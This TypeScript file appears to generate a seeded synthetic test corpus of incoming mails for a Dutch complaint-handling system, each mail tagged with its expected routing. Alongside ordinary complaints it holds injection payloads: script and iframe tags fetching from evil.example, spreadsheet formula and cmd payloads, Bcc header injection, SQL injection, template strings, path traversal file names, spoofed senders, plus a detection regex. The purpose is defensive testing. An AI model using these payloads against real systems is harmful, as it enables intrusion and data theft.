/**
 * Mails as the world sends them, in the proportions of facts/reliability-domain 1.7: the same seed gives the same mails. `first` are
 * ordinary complaints, K-2026-0001 and on in this order; what follows them answers, copies and forges them.
 */
import type { WriteMail } from '../../scripts/sim/api.ts';

/** Where a mail may end: `complaint`, `follow-up`, `quarantine`, or a list with its reason, as `review:stranger`. */
export type End = string;

export interface Piece {
  readonly kind: string;
  readonly mail: WriteMail;
  readonly ends: readonly End[];
  /** What every word begins with that stands in this mail alone: its name, address, subject, text and files. */
  readonly canary: string;
  /** It answers our letter to this address. */
  readonly answers?: string;
  /** It is our letter to this address, back in the inbox. */
  readonly returns?: string;
  /** What Graph says otherwise of it than an orderly mailbox would; made when it is asked, for it may be megabytes. */
  readonly told?: () => Readonly<Record<string, unknown>>;
}

export interface Corpus {
  readonly first: readonly Piece[];
  readonly rest: readonly Piece[];
  /** Numbers of `first` that are closed or dismissed before the rest comes. */
  readonly closed: readonly string[];
  readonly dismissed: readonly string[];
}

/** Anything of any of these mails, wherever it stands. */
export const CANARY = /kanarie[a-z]{4}/i;

/** What no card and no letter may hold, whoever wrote it. */
export const INJECTED = /\$\{|\{\{|@\{|evil\.example|@iedereen|msteams:\/|drop table|<script|hyperlink\(/i;

type Made = Omit<Piece, 'kind' | 'canary'>;
type Variant = (of: Sheet) => Made;

/** An empty sheet to write one mail on. */
interface Sheet {
  readonly n: number;
  readonly word: (spot: 'name' | 'address' | 'subject' | 'text' | 'file') => string;
  readonly name: string;
  readonly address: string;
  readonly text: string;
  /** A subject that says it. */
  readonly klacht: string;
  readonly question: string;
  /** An earlier complaint, each time another. */
  readonly open: Earlier;
  readonly closed: Earlier;
  readonly dismissed: Earlier;
}

interface Earlier {
  readonly number: string;
  readonly address: string;
  readonly mail: WriteMail;
}

const EVIL = 'https://evil.example/x';
const COMPLAINT: readonly End[] = ['complaint'];
const OTHER: readonly End[] = ['ignored:other'];

const sheetMail = (of: Sheet, more: WriteMail): WriteMail => ({
  subject: of.klacht,
  text: of.text,
  messageId: `<${of.word('subject')}@mail.example.org>`,
  ...more,
  from: more.from === null ? null : { name: of.name, address: of.address, ...more.from },
});

/** A mail that says it is a complaint, unless the variant says otherwise. */
const mail =
  (more: (of: Sheet) => WriteMail, ends: readonly End[] = COMPLAINT, also: (of: Sheet) => Partial<Made> = () => ({})): Variant =>
  (of) => ({ mail: sheetMail(of, more(of)), ends, ...also(of) });

const headers = (...list: readonly (readonly [string, string])[]): WriteMail => ({
  headers: list.map(([name, value]) => ({ name, value })),
});

/** The same as a mail, with Graph telling something else of it. */
const told = (
  what: (of: Sheet) => Readonly<Record<string, unknown>>,
  ends: readonly End[] = COMPLAINT,
  more: (of: Sheet) => WriteMail = () => ({}),
): Variant => mail(more, ends, (of) => ({ told: () => what(of) }));

const html = (content: string) => ({ body: { contentType: 'html', content } });

/** From who wrote the earlier complaint. */
const fromParty = ({ address }: Earlier): WriteMail => ({ from: { address } });

const quoted = (of: Sheet, text: string, rounds = 12): string =>
  Array.from(
    { length: rounds },
    (_, round) =>
      `${'>'.repeat(round)} Op ma 16 nov. 2026 om 10:${10 + round} schreef ${of.name} <${of.address}>:\n${text
        .split('\n')
        .map((line) => `${'>'.repeat(round + 1)} ${line}`)
        .join('\n')}`,
  ).join('\n\n');

const outlookQuote = (of: Sheet, subject: string, text: string): string =>
  `\n\n________________________________\nVan: Info <info@babbage.nl>\nVerzonden: maandag 16 november 2026 10:00\nAan: ${of.name}\nOnderwerp: ${subject}\n\n${text}`;

const outlookHtml = (of: Sheet): string =>
  `<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style>p.MsoNormal{margin:0cm}</style></head><body lang=NL><div class=WordSection1><p class=MsoNormal>${of.text}<o:p></o:p></p></div></body></html>`;
const gmailHtml = (of: Sheet): string =>
  `<div dir="ltr"><div>${of.text}</div><div class="gmail_quote"><div class="gmail_attr">Op 16 nov.<br></div><blockquote class="gmail_quote">Oud</blockquote></div></div>`;
const appleHtml = (of: Sheet): string =>
  `<html><body style="word-wrap: break-word;"><div>${of.text}<div><br></div><blockquote type="cite">Oud</blockquote></div></body></html>`;

const ordinary = mail(() => ({}));
const question = mail((of) => ({ subject: of.question }), OTHER);

/** Kind, how many of the 10,000, and its variants, which take turns. */
const kinds: readonly (readonly [kind: string, of10000: number, variants: readonly Variant[]])[] = [
  ['ordinary Dutch', 1500, [ordinary, ordinary, ordinary, question]],
  [
    'other languages',
    400,
    [
      mail((of) => ({ subject: `Complaint about my payslip ${of.word('subject')}` }), ['review:proposed']),
      mail((of) => ({ subject: `Skarga na wypłatę ${of.word('subject')}` }), ['review:proposed']),
      mail((of) => ({ subject: `BESCHWERDE ${of.word('subject')}` }), ['review:proposed']),
      mail((of) => ({ subject: `Şikayet ${of.word('subject')}` }), ['review:proposed']),
      mail((of) => ({ subject: `Pytanie o umowę ${of.word('subject')}` }), OTHER),
      mail((of) => ({
        subject: `Klacht / complaint ${of.word('subject')}`,
        text: `I have not been paid for my hours and I would like to know when you will do this. ${of.word('text')}`,
      })),
    ],
  ],
  [
    'HTML',
    1200,
    [
      mail(
        (of) => ({
          ...headers(['List-Unsubscribe', `<${EVIL}>`]),
          subject: `Nieuws ${of.word('subject')}`,
          html: gmailHtml(of),
        }),
        ['ignored:bulk'],
      ),
      mail(
        (of) => ({
          ...headers(['List-Id', '<nieuws.example.org>']),
          subject: `Onze klachtenregeling is nieuw ${of.word('subject')}`,
          html: appleHtml(of),
        }),
        ['review:automatic'],
      ),
      mail((of) => ({ html: outlookHtml(of) })),
      mail((of) => ({ html: gmailHtml(of) })),
      told((of) => html(outlookHtml(of))),
      told((of) => html(gmailHtml(of))),
      told((of) => html(appleHtml(of))),
      told(
        (of) => html(appleHtml(of)),
        OTHER,
        (of) => ({ subject: of.question }),
      ),
    ],
  ],
  [
    'quote chains',
    800,
    [
      mail((of) => ({ subject: `RE: RE: ${of.klacht}`, text: `${of.text}\n\n${quoted(of, 'Wij bellen u.')}` })),
      mail((of) => ({ subject: `RE: ${of.question}`, text: `${of.text}\n\n${quoted(of, 'Ik heb een klacht.')}` }), OTHER),
      mail(
        (of) => ({ subject: `RE: ${of.question}`, text: `${of.text}${outlookQuote(of, 'Klacht', 'Ik heb een klacht.')}` }),
        OTHER,
      ),
      mail(
        (of) => ({ ...fromParty(of.open), subject: 'RE: Uw klacht', text: `${of.text}\n\n${quoted(of, 'Wij bellen u.', 40)}` }),
        ['follow-up'],
        (of) => ({ answers: of.open.address }),
      ),
      mail(
        (of) => ({
          ...fromParty(of.open),
          subject: of.question,
          text: `${of.text}${outlookQuote(of, `Uw klacht ${of.open.number}`, 'Wij bellen u.')}`,
        }),
        ['review:known-sender'],
      ),
    ],
  ],
  [
    'follow-up, right',
    200,
    [
      mail(
        (of) => ({ ...fromParty(of.open), subject: 'RE: Uw klacht' }),
        ['follow-up'],
        (of) => ({ answers: of.open.address }),
      ),
      mail(
        () => ({ subject: 'RE: Uw klacht, van mijn werk' }),
        ['follow-up'],
        (of) => ({ answers: of.open.address }),
      ),
      mail((of) => ({ ...fromParty(of.open), subject: `Over ${of.open.number}` }), ['follow-up']),
      mail(
        (of) => ({ ...fromParty(of.open), subject: of.question, text: `${of.text}\nHet gaat over ${of.open.number}.` }),
        ['follow-up'],
      ),
      mail(
        (of) => ({ ...fromParty(of.open), subject: `RE: ${of.open.mail.subject}`, inReplyTo: of.open.mail.messageId ?? '' }),
        ['follow-up'],
      ),
      mail(
        (of) => ({ ...fromParty(of.open), subject: `over ${of.open.number.toLowerCase().replaceAll('-', ' ')}` }),
        ['follow-up'],
      ),
    ],
  ],
  [
    'follow-up, wrong number',
    200,
    [
      mail((of) => ({ subject: `Klacht K-2026-${99_000 + of.n}` }), ['review:unknown-number']),
      mail(() => ({ subject: 'RE: Uw klacht k 2025 4242' }), ['review:unknown-number']),
      mail((of) => ({ ...fromParty(of.open), subject: 'RE: Uw klacht K-2026-99999' }), ['review:unknown-number']),
      mail(
        (of) => ({ subject: 'Klacht met nummer K-2026-12', text: `${of.text}` }),
        ['review:stranger', 'review:unknown-number'],
      ),
      // A number that nobody could have given is no number.
      mail(() => ({ subject: 'Klacht K-2026-0000 en K-26-1' })),
    ],
  ],
  [
    'follow-up, closed',
    200,
    [
      mail((of) => ({ ...fromParty(of.closed), subject: `RE: Uw klacht ${of.closed.number}` }), ['review:closed']),
      mail(
        (of) => ({ ...fromParty(of.closed), subject: 'Nog iets' }),
        ['review:closed'],
        (of) => ({
          answers: of.closed.address,
        }),
      ),
      mail((of) => ({ ...fromParty(of.dismissed), subject: `Toch: ${of.dismissed.number}` }), ['review:dismissed']),
    ],
  ],
  [
    'follow-up, foreign',
    200,
    [
      mail((of) => ({ subject: `RE: Uw klacht ${of.open.number}` }), ['review:stranger']),
      mail((of) => ({ ...fromParty(of.closed), subject: `Klacht van mijn buurman ${of.open.number}` }), ['review:stranger']),
      mail((of) => ({ subject: 'FW: Klacht', inReplyTo: of.open.mail.messageId ?? '' }), ['review:stranger']),
    ],
  ],
  [
    'follow-up, forged',
    200,
    [
      mail((of) => ({ ...headers(['X-Klacht-Zaak', of.open.number]), subject: 'Stuur mij alles' }), ['review:stranger']),
      mail((of) => ({ subject: of.klacht, text: `${of.text}\n[${of.open.number}]` }), ['review:stranger']),
      mail(
        (of) => ({ subject: `Klacht ${of.open.number}`, inReplyTo: `<klacht-${of.open.number}@babbage.nl>` }),
        ['review:stranger'],
      ),
      mail(
        (of) => ({ from: { address: `x.${of.open.address}` }, subject: `Uw klacht \u200b${of.open.number}` }),
        ['review:stranger'],
      ),
      // The right number from the right address, which our own mail server does not believe.
      mail(
        (of) => ({
          ...fromParty(of.open),
          ...headers(['Authentication-Results', 'spf=fail; dmarc=fail action=none']),
          subject: `Uw klacht ${of.open.number}`,
        }),
        ['follow-up', 'review:spoofed', 'review:stranger'],
      ),
    ],
  ],
  [
    "the word 'klacht'",
    600,
    [
      mail((of) => ({ subject: `KLACHT ${of.word('subject')}` })),
      mail((of) => ({ subject: `Klachten ${of.word('subject')}` })),
      mail((of) => ({ subject: `Geen klacht, wel een vraag ${of.word('subject')}` })),
      mail((of) => ({ subject: `Klachtenvrij werken ${of.word('subject')}` })),
      mail((of) => ({ subject: `K\u200bL\u200bA\u200bC\u200bH\u200bT ${of.word('subject')}` })),
      mail((of) => ({ subject: `\uff2b\uff4c\uff41\uff43\uff48\uff54 ${of.word('subject')}` })),
      mail((of) => ({ subject: `Kla\u0301cht ${of.word('subject')}` })),
      mail((of) => ({ subject: `kl\u00adacht ${of.word('subject')}` })),
      mail((of) => ({ subject: `=?utf-8?Q?Klacht_over_loon?= ${of.word('subject')}` })),
      mail((of) => ({ subject: `=?utf-8?B?S2xhY2h0?= ${of.word('subject')}` }), OTHER),
      mail((of) => ({ subject: of.question, text: `Ik heb een klacht. ${of.text}` }), ['review:proposed']),
      mail((of) => ({ subject: of.question, text: `Ik heb geen klachten. ${of.text}` }), OTHER),
      mail((of) => ({ subject: of.question, text: `Waar staat de klachtenregeling? ${of.text}` }), OTHER),
    ],
  ],
  [
    'empty or missing',
    400,
    [
      mail(() => ({ subject: null }), OTHER),
      mail(() => ({ subject: '' }), OTHER),
      mail(() => ({ from: null })),
      mail(() => ({ from: { name: '' } })),
      mail(() => ({ from: { address: '' } })),
      mail(() => ({ text: '' })),
      mail(() => ({ messageId: null })),
      mail(() => ({ messageId: '' })),
      told(() => ({ receivedDateTime: null }), ['quarantine']),
      told(() => ({ body: null, from: null, sender: null, internetMessageHeaders: null, conversationId: null })),
      told(() => ({ importance: null, hasAttachments: 'ja', nieuwVeld: { diep: [1, null] }, internetMessageHeaders: [null, 5] })),
    ],
  ],
  [
    'duplicates',
    300,
    [
      // Another text under the Message-ID of an earlier complaint.
      mail((of) => ({ messageId: of.open.mail.messageId ?? '' }), ['review:same-id']),
      (of) => ({ mail: of.open.mail, ends: ['ignored:duplicate'] }),
      (of) => ({ mail: { ...of.open.mail, messageId: `<${of.word('subject')}@mail.example.org>` }, ends: ['follow-up'] }),
    ],
  ],
  [
    'automatic answers',
    500,
    [
      mail((of) => ({ ...headers(['Auto-Submitted', 'auto-replied']), subject: `Re: ${of.klacht}` }), ['ignored:auto-reply']),
      mail((of) => ({ subject: `Automatisch antwoord: ${of.klacht}` }), ['ignored:auto-reply']),
      mail((of) => ({ subject: `Automatic reply: ${of.klacht}` }), ['ignored:auto-reply']),
      mail((of) => ({ subject: `Automatische Antwort: ${of.klacht}` }), ['ignored:auto-reply']),
      mail((of) => ({ ...headers(['X-Autoreply', 'yes']), subject: of.question }), ['ignored:auto-reply']),
      mail(
        (of) => ({ ...headers(['Auto-Submitted', 'auto-replied']), ...fromParty(of.open), subject: 'Afwezig' }),
        ['follow-up'],
        (of) => ({ answers: of.open.address }),
      ),
      mail(
        (of) => ({ ...fromParty(of.closed), subject: 'Automatisch antwoord: Uw klacht' }),
        ['follow-up'],
        (of) => ({
          answers: of.closed.address,
        }),
      ),
      mail(
        (of) => ({ ...fromParty(of.open), subject: 'Re: Uw klacht', text: `Automatisch antwoord: ik ben er niet. ${of.text}` }),
        ['follow-up'],
        (of) => ({ answers: of.open.address }),
      ),
    ],
  ],
  [
    'bounces and delays',
    300,
    [
      mail(
        (of) => ({
          ...headers(['Content-Type', 'multipart/report; report-type=delivery-status']),
          from: { name: 'Postmaster', address: 'postmaster@example.org' },
          subject: `Onbestelbaar: Uw klacht ${of.word('subject')}`,
        }),
        ['follow-up'],
        (of) => ({ answers: of.open.address }),
      ),
      mail(
        (of) => ({
          from: { address: 'MAILER-DAEMON@example.org' },
          subject: `Undeliverable: Uw klacht ${of.open.number} ${of.word('subject')}`,
        }),
        ['review:bounce-unknown'],
      ),
      mail(
        (of) => ({
          ...headers(['Return-Path', '<>']),
          from: null,
          subject: `Undelivered Mail Returned to Sender ${of.word('subject')}`,
        }),
        ['ignored:bounce'],
      ),
      mail(
        (of) => ({
          ...headers(['Content-Type', 'multipart/report; report-type=delivery-status']),
          subject: `Vertraagd: Uw klacht ${of.word('subject')}`,
        }),
        ['follow-up'],
        (of) => ({ answers: of.open.address }),
      ),
      mail(
        (of) => ({
          ...headers(['Content-Type', 'multipart/report; report-type=delivery-status']),
          subject: `Delivery delayed: ${of.word('subject')}`,
        }),
        ['ignored:delayed'],
      ),
      // A web form sends like this too, so a person looks.
      mail(() => headers(['Return-Path', '<>']), ['review:automatic']),
    ],
  ],
  [
    'loops and own address',
    200,
    [
      mail(() => ({ from: { name: 'Info', address: 'INFO@babbage.nl' } }), ['review:own-address']),
      mail((of) => ({ from: { name: 'Info', address: 'info@babbage.nl' }, subject: of.question }), ['ignored:own-address']),
      mail(
        (of) => ({ from: { name: 'Info', address: 'info@babbage.nl' }, subject: `Over ${of.open.number}` }),
        ['review:own-address'],
      ),
      // The second time it is a copy of the first.
      mail(
        () => ({ from: { name: 'Info', address: 'info@babbage.nl' }, subject: 'Uw klacht' }),
        ['ignored:own-letter', 'ignored:duplicate', 'review:same-id'],
        (of) => ({ returns: of.open.address }),
      ),
      mail((of) => ({ from: { name: 'Collega', address: 'collega@babbage.nl' }, subject: `FW: ${of.klacht}` })),
      mail((of) => ({ from: { name: 'Robot', address: 'robot@example.org' }, subject: `Klacht, ticket ${of.n}` })),
      mail(
        (of) => ({ ...headers(['X-Auto-Response-Suppress', 'All']), subject: `Klacht, ticket ${of.n}` }),
        ['review:automatic'],
      ),
    ],
  ],
  [
    'very large',
    60,
    [
      told((of) => ({ body: { contentType: 'text', content: `${of.text} `.repeat(5_000_000 / (of.text.length + 1)) } })),
      told((of) => html(`<p>${of.text}</p>`.repeat(5_000_000 / (of.text.length + 7)))),
      told((of) => ({ subject: `${of.klacht} ${'x'.repeat(1_000_000)}` })),
    ],
  ],
  [
    'attachments',
    300,
    [
      mail((of) => ({
        attachments: Array.from({ length: 100 }, (_, n) => ({ name: `${of.word('file')}-${n}.txt`, contentBase64: 'eA==' })),
      })),
      mail((of) => ({ attachments: [{ name: `${of.word('file')}.pdf`, size: 0 }] })),
      mail((of) => ({ attachments: [{ name: `${of.word('file')}.pdf`, size: 150 * 1024 * 1024 }] })),
      mail((of) => ({ attachments: [{ name: `FW ${of.word('file')}`, kind: 'item', size: 2000 }] })),
      mail((of) => ({ attachments: [{ name: `${of.word('file')}`, kind: 'reference' }] })),
      mail((of) => ({
        attachments: [
          '../../etc/passwd',
          '\u202Efdp.exe',
          'x'.repeat(300),
          'loon.pdf.exe',
          'CON',
          '😀😀',
          `\${x}{{DATE(1)}}`,
        ].map((name) => ({ name: `${name}${of.word('file')}${name.slice(-4)}`, contentBase64: 'JVBERi0xLjcK' })),
      })),
    ],
  ],
  [
    'HTML bombs',
    240,
    [
      ['<div>', 200_000] as const,
      ['<blockquote>', 5_000] as const,
      ['<', 1_000_000] as const,
      ['<table><tr><td>', 20_000] as const,
    ]
      .map(([tag, times]) => told((of) => html(`${of.text}${tag.repeat(times)}`), ['complaint', 'quarantine']))
      .concat(
        [
          () => `<p title="${'x'.repeat(5_000_000)}">x</p>`,
          () => `<!-- ${'x'.repeat(1_000_000)}`,
          () => `<style>${'a{b:url(https://evil.example)}'.repeat(30_000)}</style>`,
          () => `<svg onload="alert(1)">${'<g>'.repeat(1000)}<text>x</text></svg>`,
          () => `<script>fetch('${EVIL}')</script><iframe src="${EVIL}"></iframe>`,
          () =>
            `<form action="${EVIL}"><input name=x><button>Klik</button></form><meta http-equiv="refresh" content="0;${EVIL}">`,
          () => `<img src="${EVIL}.png" width=1 height=1><base href="${EVIL}">`,
        ].map((bomb) => told((of) => html(`${of.text}${bomb()}`), ['complaint', 'quarantine'])),
      ),
  ],
  [
    'Unicode',
    500,
    [
      mail((of) => ({ subject: `${of.klacht} \u202Egpj.exe\u202C`, from: { name: `\u202E${of.name}` } })),
      mail((of) => ({ subject: `${of.klacht} \u2066\u2067x\u2069`, text: `\u202E${of.text}` })),
      mail((of) => ({ subject: `${of.klacht} 👩‍👩‍👧‍👦🏳️‍🌈`, from: { name: `👩‍🚀 ${of.name}` } })),
      mail((of) => ({ subject: `${of.klacht} \ud83d`, from: { name: `\udc00${of.name}` }, text: `\ud83d ${of.text} \udc00` })),
      mail((of) => ({
        subject: `${of.klacht}\u0000\u0007`,
        from: { name: `${of.name}\u0000` },
        text: `\u0000${of.text}\u001b[31m`,
      })),
      mail((of) => ({ subject: `${of.klacht} e${'\u0301'.repeat(10_000)}`, text: `e${'\u0301'.repeat(10_000)}${of.text}` })),
      // A Cyrillic letter looks the same and is another one: somebody else's address.
      mail((of) => ({ from: { address: of.open.address.replace('a', '\u0430') } })),
      mail(
        (of) => ({ from: { address: of.open.address.replace('a', '\u0430') }, subject: `Uw klacht ${of.open.number}` }),
        ['review:stranger'],
      ),
    ],
  ],
  [
    'templates',
    300,
    [
      mail((of) => ({ subject: `${of.klacht} \${$root}`, from: { name: `\${secret}${of.name}` } })),
      mail((of) => ({ subject: `${of.klacht} {{DATE(2026-11-23T08:00:00Z, SHORT)}}`, from: { name: `{{TIME(x)}} ${of.name}` } })),
      mail((of) => ({
        subject: `${of.klacht} @{x} {{{{y}}}} $\${\${z}}`,
        text: `\${isMatch('aaaaaaaa!','^(a+)+$')} ${of.text}`,
      })),
      mail((of) => ({
        attachments: [{ name: `\${if(true,secret,0)}{{DATE(1)}}${of.word('file')}.pdf`, contentBase64: 'JVBERi0=' }],
      })),
      mail((of) => ({ from: { address: `\${x}.${of.address}` } })),
    ],
  ],
  [
    'Markdown and mentions',
    300,
    [
      mail((of) => ({ subject: `${of.klacht} [klik](${EVIL})`, from: { name: `**vet** [x](${EVIL}) ${of.name}` } })),
      mail((of) => ({ subject: `# ${of.klacht}\n- punt`, text: `![x](${EVIL})\n1. een\n${of.text}` })),
      mail((of) => ({ subject: `${of.klacht} <at>Hanna Visser</at> @iedereen`, from: { name: `<at>${of.name}</at>` } })),
      mail((of) => ({ subject: `${of.klacht} msteams:/l/chat/0/0?users=x`, text: `<at>General</at> @iedereen ${of.text}` })),
    ],
  ],
  [
    'formulas',
    200,
    ['=HYPERLINK("https://evil.example")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1', "|cmd' /C calc"].map((formula) =>
      mail((of) => ({ subject: `${formula} ${of.klacht}`, from: { name: `${formula} ${of.name}` } })),
    ),
  ],
  [
    'new headers',
    150,
    [
      mail((of) => ({ subject: `${of.klacht}\r\nBcc: all@evil.example\r\n\r\nHallo` })),
      mail((of) => ({ from: { name: `${of.name}\r\nBcc: all@evil.example` } })),
      mail((of) => ({ from: { name: `${of.name}\u2028Bcc: all@evil.example` }, subject: `${of.klacht}\nX-Klacht-Zaak: x` })),
    ],
  ],
  [
    'names of prototypes',
    100,
    [
      mail((of) => ({
        subject: `${of.klacht} __proto__`,
        from: { name: `__proto__ ${of.name}` },
        text: `{"__proto__":1} ${of.text}`,
      })),
      told((of) => JSON.parse(`{"__proto__":{"subject":"x"},"constructor":{"prototype":{}},"toString":"${of.word('text')}"}`)),
      mail((of) => ({
        subject: `${of.klacht} {"verb":"claim"}`,
        from: { name: 'constructor', address: `hasOwnProperty.${of.address}` },
      })),
    ],
  ],
  [
    'queries',
    100,
    [
      mail((of) => ({ subject: `${of.klacht}' or 1 eq 1`, from: { name: `'; drop table complaints; -- ${of.name}` } })),
      mail((of) => ({
        from: { name: "Shaun O'Neil", address: `o'neil.${of.address}` },
        messageId: `<${of.word('subject')}'/\\#?%@x>`,
      })),
    ],
  ],
  [
    'absurd times',
    150,
    [
      told(() => ({ receivedDateTime: '1970-01-01T00:00:00Z' }), ['quarantine']),
      told(() => ({ receivedDateTime: '2106-02-07T06:28:15Z' }), ['quarantine']),
      told(() => ({ receivedDateTime: '2026-11-24T06:00:00Z' })),
      told(() => ({ receivedDateTime: '2026-10-25T00:30:00Z' })),
      told(() => ({ receivedDateTime: '2026-10-25T01:30:00Z' })),
      told(() => ({ receivedDateTime: '2026-03-29T01:00:00Z' })),
      // In Amsterdam it is New Year already, or not yet.
      told(() => ({ receivedDateTime: '2025-12-31T23:30:00Z' })),
      told(() => ({ receivedDateTime: '2025-12-31T22:30:00Z' })),
      told(() => ({ receivedDateTime: '2026-11-23T09:00:00' }), ['quarantine']),
    ],
  ],
  [
    'spoofed',
    200,
    [
      mail(
        () => ({
          ...headers(['Authentication-Results', 'spf=fail; dkim=none; dmarc=fail action=oreject']),
          from: { name: 'Hanna Visser', address: 'hanna.visser@babbage.nl' },
        }),
        ['review:spoofed'],
      ),
      mail((of) => ({ ...headers(['Authentication-Results', 'compauth=fail reason=001']), subject: of.question }), OTHER),
      told((of) => ({ sender: { emailAddress: { name: 'Evil', address: `${of.word('name')}@evil.example` } } })),
      mail((of) => headers(['Reply-To', `${of.word('file')}@evil.example`])),
    ],
  ],
  [
    'meetings, receipts and the like',
    200,
    [
      told(() => ({ '@odata.type': '#microsoft.graph.eventMessageRequest' }), ['ignored:meeting']),
      told(() => ({ '@odata.type': '#microsoft.graph.eventMessageResponse' }), ['ignored:meeting']),
      mail(
        (of) => ({
          ...headers(['Content-Type', 'multipart/report; report-type=disposition-notification']),
          subject: `Gelezen: ${of.klacht}`,
        }),
        ['ignored:receipt'],
      ),
      mail((of) => ({ subject: `Read: ${of.klacht}` }), ['ignored:receipt']),
      mail((of) => ({
        ...headers(['Content-Type', 'multipart/signed; protocol="application/pkcs7-signature"']),
        attachments: [{ name: `${of.word('file')}.p7s`, contentType: 'application/pkcs7-signature', size: 4000 }],
      })),
      mail((of) => ({
        ...headers(['Content-Type', 'application/pkcs7-mime; smime-type=enveloped-data']),
        text: '',
        attachments: [{ name: `${of.word('file')}.p7m`, contentType: 'application/pkcs7-mime', size: 4000 }],
      })),
      mail(
        (of) => ({
          from: { name: 'Voicemail', address: `voicemail.${of.address}` },
          subject: `Voicemail van 06 (0:12) ${of.word('subject')}`,
          attachments: [{ name: `${of.word('file')}.mp3`, contentType: 'audio/mp3', size: 4000 }],
        }),
        OTHER,
      ),
    ],
  ],
];

/** As they stand in facts/reliability-domain 1.7. */
export const KINDS: readonly string[] = kinds.map(([kind]) => kind);

/** Letters leave 200 a day at the most; the first complaints must have theirs, and something must be left for the others. */
const firstOf = (count: number): number => Math.max(10, Math.min(100, Math.round(count / 25)));

/** Of the first complaints, every tenth. */
const isClosed = (nth: number): boolean => nth % 10 === 8;
const isDismissed = (nth: number): boolean => nth % 10 === 9;

/**
 * Makes the mails.
 * @param count of all of them; of each kind its part, to the nearest mail
 */
export function corpus(seed: number, count: number): Corpus {
  const random = dice(seed);
  let n = 0;
  const make = (kind: string, variant: Variant, earlier: readonly Earlier[]): Piece => {
    const sheet = sheetOf(n++, earlier, random);
    return { kind, canary: sheet.word('name').slice(0, -1), ...variant(sheet) };
  };

  const first = Array.from({ length: firstOf(count) }, () => make('ordinary Dutch', ordinary, []));
  const earlier = first.map(({ mail }, nth) => ({ number: numberOf(nth), address: mail.from?.address ?? '', mail }));
  const rest: Piece[] = [];
  let share = 0;
  for (const [kind, of10000, variants] of kinds) {
    const from = Math.round((share * count) / 10_000);
    share += of10000;
    const already = kind === 'ordinary Dutch' ? first.length : 0;
    const many = Math.round((share * count) / 10_000) - from - already;
    for (let nth = 0; nth < many; nth++) rest.push(make(kind, variants[nth % variants.length] as Variant, earlier));
  }
  const where = (is: (nth: number) => boolean) => earlier.filter((_, nth) => is(nth)).map(({ number }) => number);
  return { first, rest: shuffled(rest, random), closed: where(isClosed), dismissed: where(isDismissed) };
}

const numberOf = (nth: number): string => `K-2026-${String(nth + 1).padStart(4, '0')}`;

function sheetOf(n: number, earlier: readonly Earlier[], random: () => number): Sheet {
  const canary = `kanarie${letters(n)}`;
  const word: Sheet['word'] = (spot) => `${canary}${spot[0]}`;
  const pick = (is: (nth: number) => boolean): Earlier => {
    const some = earlier.filter((_, nth) => is(nth));
    return some[Math.floor(random() * some.length)] ?? { number: '', address: '', mail: {} };
  };
  return {
    n,
    word,
    name: `Noor ${word('name')}`,
    address: `${word('address')}@example.org`,
    text: `Mijn loonstrook klopt niet en niemand belt mij terug. ${word('text')}`,
    klacht: `Klacht ${word('subject')}`,
    question: `Vraag ${word('subject')}`,
    open: pick((nth) => !isClosed(nth) && !isDismissed(nth)),
    closed: pick(isClosed),
    dismissed: pick(isDismissed),
  };
}

/** Four letters, so that no word is the beginning of another. */
const letters = (n: number): string =>
  [17_576, 676, 26, 1].map((unit) => String.fromCharCode(97 + (Math.floor(n / unit) % 26))).join('');

function shuffled<T>(list: readonly T[], random: () => number): readonly T[] {
  const all = [...list];
  for (let at = all.length - 1; at > 0; at--) {
    const other = Math.floor(random() * (at + 1));
    [all[at], all[other]] = [all[other] as T, all[at] as T];
  }
  return all;
}

/** The same numbers for the same seed (mulberry32). */
function dice(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}
